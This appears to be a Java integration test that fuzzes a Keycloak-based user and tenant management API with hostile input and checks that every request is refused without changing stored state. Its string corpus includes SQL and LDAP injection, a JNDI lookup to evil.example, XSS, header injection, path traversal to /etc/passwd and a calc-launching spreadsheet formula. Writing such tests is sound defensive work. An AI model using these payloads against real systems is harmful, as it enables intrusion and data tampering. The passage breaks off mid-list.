package dev.multimodal.usermanagement.it;

import static org.junit.jupiter.api.Assertions.assertEquals;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.GenerationMode;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;

/**
 * Hostile input on every endpoint that reads a body, a path id or a query parameter: a corpus (wrong types, nulls,
 * injection strings, control characters, over-long strings, path traversal and encoded ids, invalid UTF-8, huge and
 * deeply nested JSON, wrong content types, oversized bodies, out-of-range parameters) and jqwik properties that generate
 * more of each. Every answer: no 5xx; a refusal is a 4xx problem+json; input that a correct server must refuse gets a 4xx;
 * no raw input in an HTML answer; and after all of it the tenant's users (profiles, attributes, roles, credentials),
 * its settings and the tenant list are exactly as before.
 *
 * <p>Requests are recorded rather than failing at the first, so one run lists every violation; the container fails at the
 * end with all of them.
 */
class HostileInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient CLIENT =
            HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
    private static final String STRONG = "Hostile-Pass123";

    private static KeycloakServer server;
    private static String platformToken;
    private static String tenant;
    /** The tenant whose record and settings take the hostile bodies: were one wrongly accepted (is_active: 0), the
     *  tenant of the other requests would stay enabled, so no refusal is a side effect of an earlier request. */
    private static String managed;

    private static String adminToken;
    private static String userToken;
    private static String targetId;
    private static Snapshot before;

    private static final Map<String, AtomicInteger> REQUESTS = new ConcurrentHashMap<>();
    private static final List<String> VIOLATIONS = Collections.synchronizedList(new ArrayList<>());
    private static final AtomicInteger UNIQUE = new AtomicInteger();

    /** What a correct server must answer. */
    enum Expect {
        REFUSE,
        ANY
    }

    /** Field types of a body: a value of another type must get a 400 (no coercion). */
    enum Type {
        STRING,
        REQUIRED_STRING,
        BOOLEAN,
        INTEGER,
        OBJECT,
        STRING_ARRAY,
        USERS
    }

    /** A body endpoint: its caller's token, a body that is well-formed, and the type of each field. */
    record BodyEndpoint(
            String method,
            String path,
            Supplier<String> token,
            Supplier<Map<String, Object>> base,
            Map<String, Type> fields) {

        @Override
        public String toString() {
            return method + " " + path;
        }
    }

    private record Snapshot(String users, String settings, String tenants) {}

    // ---------------------------------------------------------------- set-up and the final check

    @BeforeContainer
    static void world() {
        server = KeycloakServer.get();
        platformToken = Tokens.platformAdmin(server);
        tenant = Fixtures.createTenant(server, platformToken, Fixtures.unique("hostile"), false);
        SecurityFixtures.raiseLimits(server, platformToken, tenant);
        managed = Fixtures.createTenant(server, platformToken, Fixtures.unique("hostile-m"), false);
        Supplier<String> platform = () -> platformToken;
        SecurityFixtures.user(
                server, platform, tenant, "h-admin", SecurityFixtures.tenantRole(server, platform, tenant, "admin"));
        SecurityFixtures.user(
                server, platform, tenant, "h-user", SecurityFixtures.tenantRole(server, platform, tenant, "user"));
        targetId = SecurityFixtures.user(
                server, platform, tenant, "h-target", SecurityFixtures.tenantRole(server, platform, tenant, "user"));
        adminToken = Tokens.password(server, tenant, "h-admin", SecurityFixtures.PASSWORD);
        userToken = Tokens.password(server, tenant, "h-user", SecurityFixtures.PASSWORD);
        before = snapshot();
    }

    @AfterContainer
    static void noStoredChangeAndNoViolation() {
        Snapshot after = snapshot();
        if (!after.users().equals(before.users())) {
            VIOLATIONS.add("the tenant's users changed:\n  before " + before.users() + "\n  after  " + after.users());
        }
        if (!after.settings().equals(before.settings())) {
            VIOLATIONS.add(
                    "the tenant's settings changed:\n  before " + before.settings() + "\n  after  " + after.settings());
        }
        if (!after.tenants().equals(before.tenants())) {
            VIOLATIONS.add("the tenant list changed:\n  before " + before.tenants() + "\n  after  " + after.tenants());
        }
        int total = REQUESTS.values().stream().mapToInt(AtomicInteger::get).sum();
        new TreeMap<>(REQUESTS)
                .forEach(
                        (kind, count) -> System.out.printf("[it] hostile input, %s: %d requests%n", kind, count.get()));
        VIOLATIONS.forEach(violation -> System.out.println("[security] hostile input violation: " + violation));
        System.out.printf("[security] hostile input: %d requests, %d violations%n", total, VIOLATIONS.size());
        assertEquals(
                List.of(),
                List.copyOf(VIOLATIONS),
                VIOLATIONS.size() + " violations in " + total + " hostile requests");
        if (total < 1000) {
            throw new AssertionError("only " + total + " hostile requests; the suite promises at least 1,000");
        }
    }

    /** Users with their attributes, roles and credential dates; the tenant's settings; the tenant list. */
    private static Snapshot snapshot() {
        String admin = server.baseUrl() + "/admin/realms/" + tenant;
        Map<String, Object> users = new TreeMap<>();
        for (JsonNode user : Http.get(admin + "/users?briefRepresentation=false&max=1000", platformToken)
                .json()) {
            String id = user.path("id").asText();
            Map<String, Object> state = new TreeMap<>();
            for (String field : List.of(
                    "username",
                    "email",
                    "enabled",
                    "emailVerified",
                    "firstName",
                    "lastName",
                    "attributes",
                    "requiredActions",
                    "createdTimestamp")) {
                state.put(field, user.path(field));
            }
            state.put(
                    "roles",
                    Http.get(admin + "/users/" + id + "/role-mappings/realm", platformToken)
                            .json());
            List<String> credentials = new ArrayList<>();
            Http.get(admin + "/users/" + id + "/credentials", platformToken)
                    .json()
                    .forEach(c -> credentials.add(c.path("type").asText() + "@"
                            + c.path("createdDate").asText()));
            state.put("credentials", credentials);
            users.put(id, state);
        }
        String settings = Http.get(server.apiUrl("master") + "/tenants/" + tenant + "/settings", platformToken)
                        .json() + " "
                + Http.get(server.apiUrl("master") + "/tenants/" + managed + "/settings", platformToken)
                        .json();
        // how many tenants there are (a hostile body that made one), and this class's two as they are
        long total = Http.get(server.apiUrl("master") + "/tenants?page_size=1", platformToken)
                .json()
                .path("total")
                .asLong();
        List<String> ours = new ArrayList<>();
        for (String id : List.of(tenant, managed)) {
            ours.add(Http.get(server.apiUrl("master") + "/tenants/" + id, platformToken)
                    .json()
                    .toString());
        }
        return new Snapshot(Http.tree(users).toString(), settings, total + " tenants; " + ours);
    }

    // ---------------------------------------------------------------- the endpoints

    private static String unique() {
        return "hx" + UNIQUE.incrementAndGet() + UUID.randomUUID().toString().substring(0, 4);
    }

    private static Map<String, Object> body(Object... pairs) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            map.put((String) pairs[i], pairs[i + 1]);
        }
        return map;
    }

    private static List<BodyEndpoint> bodyEndpoints() {
        Supplier<String> none = () -> null;
        Supplier<String> admin = () -> adminToken;
        Supplier<String> user = () -> userToken;
        Supplier<String> platform = () -> platformToken;
        String target = "/users/" + targetId;
        return List.of(
                new BodyEndpoint(
                        "POST",
                        "/auth/register",
                        none,
                        () -> {
                            String u = unique();
                            return body(
                                    "email",
                                    u + "@" + tenant + ".example",
                                    "username",
                                    u,
                                    "password",
                                    STRONG,
                                    "first_name",
                                    "Ann",
                                    "last_name",
                                    "Lee");
                        },
                        Map.of(
                                "email",
                                Type.REQUIRED_STRING,
                                "username",
                                Type.REQUIRED_STRING,
                                "password",
                                Type.REQUIRED_STRING,
                                "first_name",
                                Type.STRING,
                                "last_name",
                                Type.STRING,
                                "tenant_id",
                                Type.STRING)),
                new BodyEndpoint(
                        "POST",
                        "/auth/login",
                        none,
                        () -> body("username", "h-nobody", "password", "wrong-" + unique()),
                        Map.of(
                                "username",
                                Type.STRING,
                                "email",
                                Type.STRING,
                                "password",
                                Type.REQUIRED_STRING,
                                "tenant_id",
                                Type.STRING,
                                "remember_me",
                                Type.BOOLEAN)),
                new BodyEndpoint(
                        "POST",
                        "/auth/refresh",
                        none,
                        () -> body("refresh_token", "not-a-token"),
                        Map.of("refresh_token", Type.REQUIRED_STRING)),
                new BodyEndpoint(
                        "POST",
                        "/auth/change-password",
                        none,
                        () -> body("username", "h-nobody", "current_password", "wrong", "new_password", STRONG),
                        Map.of(
                                "username",
                                Type.STRING,
                                "current_password",
                                Type.REQUIRED_STRING,
                                "new_password",
                                Type.REQUIRED_STRING)),
                new BodyEndpoint(
                        "PUT",
                        "/users/me",
                        user,
                        () -> body("first_name", "Ann"),
                        Map.of("first_name", Type.STRING, "last_name", Type.STRING, "preferences", Type.OBJECT)),
                new BodyEndpoint(
                        "POST",
                        "/users/me/change-password",
                        user,
                        () -> body("current_password", SecurityFixtures.PASSWORD, "new_password", "weak"),
                        Map.of("current_password", Type.REQUIRED_STRING, "new_password", Type.REQUIRED_STRING)),
                new BodyEndpoint(
                        "POST",
                        "/users",
                        admin,
                        () -> {
                            String u = unique();
                            return body(
                                    "email",
                                    u + "@" + tenant + ".example",
                                    "username",
                                    u,
                                    "password",
                                    STRONG,
                                    "role",
                                    "user");
                        },
                        Map.of(
                                "email",
                                Type.REQUIRED_STRING,
                                "username",
                                Type.REQUIRED_STRING,
                                "password",
                                Type.REQUIRED_STRING,
                                "first_name",
                                Type.STRING,
                                "last_name",
                                Type.STRING,
                                "role",
                                Type.STRING)),
                new BodyEndpoint(
                        "POST",
                        "/users/import",
                        admin,
                        () -> {
                            String u = unique();
                            return body(
                                    "users",
                                    List.of(body(
                                            "email",
                                            u + "@" + tenant + ".example",
                                            "username",
                                            u,
                                            "password_hash",
                                            SecurityFixtures.BCRYPT_HASH,
                                            "role",
                                            "user")));
                        },
                        Map.of("users", Type.USERS)),
                new BodyEndpoint(
                        "PUT",
                        target,
                        admin,
                        () -> body("first_name", "Ann"),
                        Map.of(
                                "email",
                                Type.STRING,
                                "first_name",
                                Type.STRING,
                                "last_name",
                                Type.STRING,
                                "is_active",
                                Type.BOOLEAN,
                                "email_verified",
                                Type.BOOLEAN)),
                new BodyEndpoint(
                        "PUT",
                        target + "/roles",
                        admin,
                        () -> body("roles", List.of("user")),
                        Map.of("roles", Type.STRING_ARRAY)),
                new BodyEndpoint(
                        "POST",
                        target + "/reset-password",
                        admin,
                        () -> body("temporary_password", "weak"),
                        Map.of("temporary_password", Type.REQUIRED_STRING)),
                new BodyEndpoint(
                        "POST",
                        "/tenants",
                        platform,
                        () -> {
                            String u = unique();
                            return body(
                                    "id",
                                    u,
                                    "name",
                                    "T " + u,
                                    "admin_email",
                                    "boss@" + u + ".example",
                                    "admin_username",
                                    "boss",
                                    "admin_password",
                                    "weak");
                        },
                        Map.of(
                                "id",
                                Type.STRING,
                                "name",
                                Type.REQUIRED_STRING,
                                "description",
                                Type.STRING,
                                "domain",
                                Type.STRING,
                                "admin_email",
                                Type.REQUIRED_STRING,
                                "admin_username",
                                Type.REQUIRED_STRING,
                                "admin_password",
                                Type.REQUIRED_STRING)),
                new BodyEndpoint(
                        "PUT",
                        "/tenants/{managed}",
                        platform,
                        () -> body("description", "hostile"),
                        Map.of(
                                "name",
                                Type.STRING,
                                "description",
                                Type.STRING,
                                "domain",
                                Type.STRING,
                                "is_active",
                                Type.BOOLEAN)),
                new BodyEndpoint(
                        "PUT",
                        "/tenants/{managed}/settings",
                        platform,
                        () -> body("registration_allowed", true),
                        Map.of(
                                "registration_allowed",
                                Type.BOOLEAN,
                                "password_policy",
                                Type.STRING,
                                "access_token_lifespan_seconds",
                                Type.INTEGER,
                                "refresh_token_lifespan_seconds",
                                Type.INTEGER,
                                "lockout",
                                Type.OBJECT,
                                "audit_retention_days",
                                Type.INTEGER)));
    }

    /**
     * Base bodies that must stay refused whatever the hostile field: the register, user and tenant bodies are valid apart
     * from it, so a field that is wrongly accepted shows as a stored change; the others can never succeed (unknown
     * account, wrong or weak password).
     */
    private static final Map<Type, List<Object>> WRONG_TYPES = Map.of(
            Type.STRING, List.of(12345, 1.5, true, List.of(), List.of("a"), Map.of(), Map.of("$ne", "")),
            Type.REQUIRED_STRING, List.of(12345, false, List.of("a"), Map.of("$gt", "")),
            Type.BOOLEAN, List.of("true", 1, 0, "yes", List.of(true), Map.of()),
            Type.INTEGER, List.of("5", 5.5, true, List.of(5), Map.of(), 1e20, -1),
            Type.OBJECT, List.of("x", 1, true, List.of(1, 2)),
            Type.STRING_ARRAY,
                    List.of("admin", 1, Map.of(), List.of(1), List.of(List.of("admin")), List.of("owner"), List.of()),
            Type.USERS, List.of("x", Map.of(), List.of(1), List.of("a"), List.of()));

    // ---------------------------------------------------------------- corpus

    @Example
    void wrongTypesAndNullsInEveryField() {
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            for (Map.Entry<String, Type> field : endpoint.fields().entrySet()) {
                List<Object> values = new ArrayList<>(WRONG_TYPES.get(field.getValue()));
                if (field.getValue() == Type.REQUIRED_STRING) {
                    values.add(null);
                    values.add("");
                }
                if (field.getValue() == Type.INTEGER) {
                    values.add(0);
                    values.add(Integer.MAX_VALUE);
                }
                for (Object value : values) {
                    Map<String, Object> body = endpoint.base().get();
                    body.put(field.getKey(), value);
                    sendJson("wrong types and nulls", endpoint, body, Expect.REFUSE, null);
                }
            }
        }
    }

    /** Strings no correct server stores in a name, username, e-mail, id, role or policy. */
    static final List<String> HOSTILE_STRINGS = List.of(
            "' OR '1'='1",
            "admin'--",
            "\"; DROP TABLE user_entity; --",
            "1; SELECT pg_sleep(5)--",
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "${jndi:ldap://evil.example/a}",
            "${7*7}",
            "#{7*7}",
            "{{7*7}}",
            "<%= 7*7 %>",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "Smith <x>",
            "a b <x>",
            "javascript:alert(1)",
            "\u0000",
            "a\u0000b",
            "\u0001\u0002",
            "\u001b[31mred",
            "line\r\nX-Injected: 1",
            "a\u2028b",
            "a\u2029b",
            "a\u0085b",
            "../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "=cmd|' /C calc'!A0",
            "x".repeat(256),
            "é".repeat(300),
            "\uD83D\uDE00".repeat(200));

    /** Keycloak's person-name validator (first and last names in the user profile): what a name may not contain. */
    private static final Pattern PERSON_NAME = Pattern.compile("^[^<>&\"\\v$%!#?§;*~/\\\\|^=\\[\\]{}()\\p{Cntrl}]+$");

    private static final Map<String, List<String>> STRING_FIELDS = Map.of(
            "POST /auth/register", List.of("email", "username", "first_name", "last_name", "tenant_id"),
            "POST /auth/login", List.of("username", "tenant_id"),
            "POST /auth/change-password", List.of("username", "tenant_id"),
            "PUT /users/me", List.of("first_name", "last_name"),
            "POST /users", List.of("email", "username", "first_name", "last_name", "role"),
            "PUT /users/{target}", List.of("email", "first_name", "last_name"),
            "POST /tenants", List.of("id", "admin_username", "admin_email", "domain"),
            "PUT /tenants/{managed}", List.of("domain"),
            "PUT /tenants/{managed}/settings", List.of("password_policy"));

    @Example
    void injectionControlAndOverlongStringsInEveryStringField() {
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            for (String field : STRING_FIELDS.getOrDefault(key(endpoint), List.of())) {
                for (String value : HOSTILE_STRINGS) {
                    if (field.endsWith("_name")
                            && !field.equals("admin_username")
                            && value.length() <= 255
                            && PERSON_NAME.matcher(value).matches()) {
                        continue; // a harmless name (e.g. admin'--): Keycloak's user profile takes it
                    }
                    Map<String, Object> body = endpoint.base().get();
                    body.put(field, value);
                    sendJson("injection, control and over-long strings", endpoint, body, Expect.REFUSE, value);
                }
            }
        }
        // hashIterations(-1) is Keycloak's "the algorithm's default" (the console's preset): valid, so not here
        for (String policy : List.of(
                "hashIterations(0)",
                "hashIterations(-2)",
                "hashAlgorithm(bcrypt) and hashIterations(31)",
                "hashAlgorithm(pbkdf2-sha256) and hashIterations(2147483647)",
                "hashAlgorithm(none)",
                "nosuchpolicy(1)")) {
            BodyEndpoint settings = bodyEndpoints().get(bodyEndpoints().size() - 1);
            sendJson(
                    "injection, control and over-long strings",
                    settings,
                    body("password_policy", policy),
                    Expect.REFUSE,
                    policy);
        }
    }

    /** Bodies that are not JSON of the endpoint's shape at all. */
    @Example
    void malformedOversizedAndDeeplyNestedBodies() {
        List<byte[]> bodies = new ArrayList<>();
        for (String text : List.of(
                "",
                " ",
                "{",
                "{\"a\":",
                "[]",
                "\"x\"",
                "42",
                "null",
                "true",
                "{}{}",
                "{\"a\":1} x",
                "{'email':'a'}",
                "{\"email\":\"a\" /* c */}",
                "{\"n\":NaN}",
                "{\"n\":Infinity}",
                "{\"n\":1" + "0".repeat(5000) + "}",
                "[".repeat(5000) + "]".repeat(5000),
                "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
                "{\"preferences\":" + "{\"a\":".repeat(1200) + "1" + "}".repeat(1201),
                "{\"first_name\":\"" + "x".repeat(70 * 1024) + "\"}",
                "[" + "1,".repeat(30_000) + "1]")) {
            bodies.add(text.getBytes(StandardCharsets.UTF_8));
        }
        // invalid UTF-8: a lone continuation byte, an overlong '/', a surrogate, 0xFF, a truncated sequence
        for (byte[] bad : List.of(
                new byte[] {(byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xFF},
                new byte[] {(byte) 0xE2, (byte) 0x82})) {
            byte[] prefix = "{\"first_name\":\"a".getBytes(StandardCharsets.UTF_8);
            byte[] suffix = "b\",\"username\":\"x\"}".getBytes(StandardCharsets.UTF_8);
            byte[] body = new byte[prefix.length + bad.length + suffix.length];
            System.arraycopy(prefix, 0, body, 0, prefix.length);
            System.arraycopy(bad, 0, body, prefix.length, bad.length);
            System.arraycopy(suffix, 0, body, prefix.length + bad.length, suffix.length);
            bodies.add(body);
        }
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            for (byte[] body : bodies) {
                send(
                        "malformed, oversized and nested bodies",
                        endpoint.method(),
                        path(endpoint.path()),
                        endpoint.token().get(),
                        "application/json",
                        body,
                        Expect.REFUSE,
                        null);
            }
        }
        // an import over its own 2 MiB limit
        String row = "{\"email\":\"a@b.example\",\"username\":\"abc\",\"password_hash\":\""
                + SecurityFixtures.BCRYPT_HASH + "\"},";
        String huge = "{\"users\":[" + row.repeat(2 * 1024 * 1024 / row.length() + 10) + "{}]}";
        send(
                "malformed, oversized and nested bodies",
                "POST",
                "/users/import",
                adminToken,
                "application/json",
                huge.getBytes(StandardCharsets.UTF_8),
                Expect.REFUSE,
                null);
    }

    @Example
    void wrongContentTypes() {
        List<String> types = new ArrayList<>(List.of(
                "text/plain",
                "application/xml",
                "*/*",
                "application/json; charset=latin1",
                "application/json; charset=utf-16",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "multipart/form-data",
                "text/html",
                "application/javascript",
                "application/json, text/plain",
                "json"));
        types.add(null);
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            byte[] body = json(endpoint.base().get());
            for (String type : types) {
                byte[] sent = type != null && type.startsWith("multipart")
                        ? "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n".getBytes(StandardCharsets.UTF_8)
                        : body;
                send(
                        "wrong content types",
                        endpoint.method(),
                        path(endpoint.path()),
                        endpoint.token().get(),
                        type,
                        sent,
                        Expect.REFUSE,
                        null);
            }
        }
    }

    /** Ids in paths: traversal, encoded separators and NUL, other realms' ids, absurd lengths. */
    @Example
    void pathTraversalAndEncodedIds() {
        List<String> ids = List.of(
                "..%2F..%2Fmaster",
                "..%2f",
                "%2e%2e",
                "%2e%2e%2f%2e%2e%2fmaster",
                "%00",
                "a%00b",
                "..;",
                "%252e%252e%252f",
                "%c0%ae%c0%ae",
                "'%20OR%201=1",
                "*",
                "%2A",
                "null",
                "-1",
                "x".repeat(5000),
                "%0d%0aX-Injected:%201",
                "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "master",
                "..%5C..%5C");
        for (String id : ids) {
            for (String[] route : List.of(
                    new String[] {"GET", "/users/%s"},
                    new String[] {"DELETE", "/users/%s"},
                    new String[] {"PUT", "/users/%s/roles"},
                    new String[] {"POST", "/users/%s/unlock"},
                    new String[] {"DELETE", "/users/me/sessions/%s"},
                    new String[] {"GET", "/tenants/%s"},
                    new String[] {"GET", "/tenants/%s/settings"},
                    new String[] {"PUT", "/tenants/%s/settings"},
                    new String[] {"GET", "/docs/%s"})) {
                boolean platform = route[1].startsWith("/tenants/") && !route[1].endsWith("settings");
                String token = route[1].startsWith("/users/me") ? userToken : platform ? platformToken : adminToken;
                byte[] body = route[0].equals("PUT")
                        ? json(
                                route[1].endsWith("roles")
                                        ? body("roles", List.of("user"))
                                        : body("registration_allowed", true))
                        : null;
                send(
                        "path traversal and encoded ids",
                        route[0],
                        String.format(route[1], id),
                        token,
                        body == null ? null : "application/json",
                        body,
                        Expect.REFUSE,
                        null);
            }
        }
        for (String path : List.of(
                "/users/me%00",
                "/users%2Fme",
                "/users/me/..%2F..%2Ftenants",
                "/audit%00",
                "/docs/..%2F..%2Fopenapi.json",
                "/docs/%2e%2e%2fMETA-INF%2fMANIFEST.MF",
                "/nothing-here",
                "/tenants/%00/settings")) {
            send("path traversal and encoded ids", "GET", path, adminToken, null, null, Expect.REFUSE, null);
        }
    }

    @Example
    void outOfRangeAndHostileQueryParameters() {
        // page runs from 1 to 1,000,000, page_size and limit from 1 to 100, after from 0
        List<String> invalid = List.of(
                "-1", "99999999999999999999", "1.5", "1e3", "abc", "%00", "0x10", "%201", "1%20", "%E2%80%A8", "--1");
        for (String n : invalid) {
            send("query parameters", "GET", "/users?page=" + n, adminToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/users?page_size=" + n, adminToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/tenants?page_size=" + n, platformToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/audit?limit=" + n, adminToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/audit?after=" + n, adminToken, null, null, Expect.REFUSE, null);
        }
        for (String n : List.of("0", "101", "1000000")) {
            send("query parameters", "GET", "/users?page_size=" + n, adminToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/tenants?page_size=" + n, platformToken, null, null, Expect.REFUSE, null);
            send("query parameters", "GET", "/audit?limit=" + n, adminToken, null, null, Expect.REFUSE, null);
        }
        send("query parameters", "GET", "/users?page=0", adminToken, null, null, Expect.REFUSE, null);
        send("query parameters", "GET", "/users?page=1000001", adminToken, null, null, Expect.REFUSE, null);
        for (String value : HOSTILE_STRINGS.subList(0, 20)) {
            String encoded = URLEncoder.encode(value, StandardCharsets.UTF_8);
            // free-text filters may match nothing (200) but must never fail
            send("query parameters", "GET", "/users?search=" + encoded, adminToken, null, null, Expect.ANY, value);
            send("query parameters", "GET", "/users?email=" + encoded, adminToken, null, null, Expect.ANY, value);
            send(
                    "query parameters",
                    "GET",
                    "/audit?user=" + encoded + "&type=" + encoded,
                    adminToken,
                    null,
                    null,
                    Expect.ANY,
                    value);
            send("query parameters", "GET", "/users?role=" + encoded, adminToken, null, null, Expect.REFUSE, value);
            send("query parameters", "GET", "/audit?from=" + encoded, adminToken, null, null, Expect.REFUSE, value);
            send(
                    "query parameters",
                    "GET",
                    "/audit/export?format=" + encoded,
                    adminToken,
                    null,
                    null,
                    Expect.REFUSE,
                    value);
            send(
                    "query parameters",
                    "POST",
                    "/audit/purge?before=" + encoded,
                    platformToken,
                    null,
                    null,
                    Expect.REFUSE,
                    value);
        }
    }

    // ---------------------------------------------------------------- generated (jqwik)

    /** A name, username or e-mail with at least one character no correct server accepts there. */
    @Provide
    Arbitrary<String> hostileText() {
        Arbitrary<String> plain = Arbitraries.strings().alpha().numeric().ofMaxLength(20);
        Arbitrary<Character> forbidden = Arbitraries.of(
                '<', '>', '"', '$', '{', '}', '\\', '\u0000', '\u0007', '\u001b', '\u007f', '\u2028', '\u2029',
                '\u0085', '\n', '\r', '\t', ';', '=', '|', '*', '(', ')', '%', '!', '#', '^', '[', ']', '~');
        Arbitrary<String> any =
                Arbitraries.strings().withCharRange('\u0000', '\uD7FF').ofMaxLength(30); // no lone surrogates: not JSON
        return Combinators.combine(plain, forbidden, any).as((before, bad, after) -> before + bad + after);
    }

    @Property(tries = 200, generation = GenerationMode.RANDOMIZED, shrinking = ShrinkingMode.OFF)
    void generatedHostileStrings(
            @ForAll("stringField") Map.Entry<BodyEndpoint, String> target, @ForAll("hostileText") String value) {
        Map<String, Object> body = target.getKey().base().get();
        body.put(target.getValue(), value);
        sendJson("generated strings (jqwik)", target.getKey(), body, Expect.REFUSE, value);
    }

    @Provide
    Arbitrary<Map.Entry<BodyEndpoint, String>> stringField() {
        List<Map.Entry<BodyEndpoint, String>> fields = new ArrayList<>();
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            if (endpoint.path().startsWith("/auth/login")
                    || endpoint.path().startsWith("/auth/change-password")
                    || endpoint.path().equals("/tenants")) {
                continue; // each costs a password hash or (a tenant body that passes validation) a realm import: the
                // corpus has them
            }
            for (String field : STRING_FIELDS.getOrDefault(key(endpoint), List.of())) {
                if (!field.equals("tenant_id") && !field.equals("password_policy")) {
                    fields.add(Map.entry(endpoint, field));
                }
            }
        }
        return Arbitraries.of(fields);
    }

    /** Any JSON value but a string: arrays and objects nested a few levels, numbers of every size, booleans, null. */
    @Provide
    Arbitrary<Object> nonStringJson() {
        Arbitrary<Object> scalar = Arbitraries.oneOf(
                Arbitraries.integers().map(i -> (Object) i),
                Arbitraries.longs().map(l -> (Object) l),
                Arbitraries.doubles().map(d -> (Object) d),
                Arbitraries.of(true, false).map(b -> (Object) b),
                Arbitraries.bigIntegers()
                        .between(java.math.BigInteger.TEN.pow(30).negate(), java.math.BigInteger.TEN.pow(30))
                        .map(b -> (Object) b));
        return Arbitraries.recursive(
                () -> scalar,
                inner -> Arbitraries.oneOf(
                        inner.list().ofMaxSize(4).map(l -> (Object) l),
                        Arbitraries.maps(
                                        Arbitraries.strings()
                                                .alpha()
                                                .ofMinLength(1)
                                                .ofMaxLength(8),
                                        inner)
                                .ofMaxSize(4)
                                .map(m -> (Object) m)),
                0,
                4);
    }

    @Property(tries = 200, generation = GenerationMode.RANDOMIZED, shrinking = ShrinkingMode.OFF)
    void generatedNonStringValuesInStringFields(
            @ForAll("anyStringField") Map.Entry<BodyEndpoint, String> target, @ForAll("nonStringJson") Object value) {
        Map<String, Object> body = target.getKey().base().get();
        body.put(target.getValue(), value);
        sendJson("generated wrong types (jqwik)", target.getKey(), body, Expect.REFUSE, null);
    }

    @Provide
    Arbitrary<Map.Entry<BodyEndpoint, String>> anyStringField() {
        List<Map.Entry<BodyEndpoint, String>> fields = new ArrayList<>();
        for (BodyEndpoint endpoint : bodyEndpoints()) {
            endpoint.fields().forEach((field, type) -> {
                if (type == Type.STRING || type == Type.REQUIRED_STRING) {
                    fields.add(Map.entry(endpoint, field));
                }
            });
        }
        return Arbitraries.of(fields);
    }

    @Property(tries = 150, generation = GenerationMode.RANDOMIZED, shrinking = ShrinkingMode.OFF)
    void generatedOutOfRangeNumbers(@ForAll("outOfRange") String value, @ForAll("numericParameter") String parameter) {
        send(
                "generated query parameters (jqwik)",
                "GET",
                parameter + URLEncoder.encode(value, StandardCharsets.UTF_8),
                parameter.startsWith("/tenants") ? platformToken : adminToken,
                null,
                null,
                Expect.REFUSE,
                null);
    }

    @Provide
    Arbitrary<String> outOfRange() {
        return Arbitraries.oneOf(
                Arbitraries.longs().lessOrEqual(0).map(String::valueOf),
                Arbitraries.longs().greaterOrEqual(101).map(String::valueOf),
                Arbitraries.doubles().map(String::valueOf).filter(s -> s.contains(".") || s.contains("E")),
                // not a number in any script (Integer.parseInt also reads e.g. Arabic-Indic digits)
                Arbitraries.strings()
                        .ofMinLength(1)
                        .ofMaxLength(12)
                        .filter(s -> !s.chars()
                                .allMatch(c ->
                                        Character.isDigit(c) || c == '+' || c == '-' || Character.isWhitespace(c))));
    }

    @Provide
    Arbitrary<String> numericParameter() {
        return Arbitraries.of("/users?page_size=", "/tenants?page_size=", "/audit?limit=");
    }

    @Property(tries = 100, generation = GenerationMode.RANDOMIZED, shrinking = ShrinkingMode.OFF)
    void generatedSettings(@ForAll("settingsField") String field, @ForAll("nonStringJson") Object value) {
        BodyEndpoint settings = bodyEndpoints().get(bodyEndpoints().size() - 1);
        Object sent = value;
        if (value instanceof Integer || value instanceof Long || value instanceof java.math.BigInteger) {
            long number = ((Number) value).longValue();
            // numbers in range are valid settings: move them out of every range
            sent = number >= 0 ? Long.MAX_VALUE - Math.abs(number % 1000) : Math.min(number, -1);
        } else if (value instanceof Double number) {
            sent = -(Math.abs(number) + 1); // below every range (and a fraction where a whole number is due)
        }
        Map<String, Object> body = new LinkedHashMap<>();
        if (field.startsWith("lockout.")) {
            body.put("lockout", Map.of(field.substring("lockout.".length()), sent));
        } else {
            body.put(field, sent);
        }
        if ((field.equals("registration_allowed") || field.equals("lockout.lockout_email"))
                && sent instanceof Boolean) {
            body.put("registration_allowed", "maybe");
        }
        sendJson("generated settings (jqwik)", settings, body, Expect.REFUSE, null);
    }

    @Provide
    Arbitrary<String> settingsField() {
        return Arbitraries.of(
                "registration_allowed",
                "access_token_lifespan_seconds",
                "refresh_token_lifespan_seconds",
                "audit_retention_days",
                "lockout.max_failures",
                "lockout.failure_window_minutes",
                "lockout.lockout_minutes",
                "lockout.lockout_growth_factor",
                "lockout.lockout_cap_minutes",
                "lockout.failures_per_ip_per_minute",
                "lockout.requests_per_ip_per_minute",
                "lockout.requests_per_username_per_minute",
